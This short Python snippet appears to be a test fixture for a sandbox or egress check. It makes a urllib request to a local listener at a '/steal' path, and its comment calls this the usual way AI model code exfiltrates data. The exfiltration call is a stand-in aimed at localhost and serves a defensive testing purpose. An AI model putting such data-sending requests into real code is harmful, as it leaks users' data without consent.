# Makes an HTTP request to the test's listener through urllib (the usual way model code exfiltrates; classic).
import urllib.request

try:
    print(urllib.request.urlopen("http://127.0.0.1:{{PORT}}/steal?d=1", timeout=2).read())
except Exception as e:
    print("urlopen ->", type(e).__name__, e)
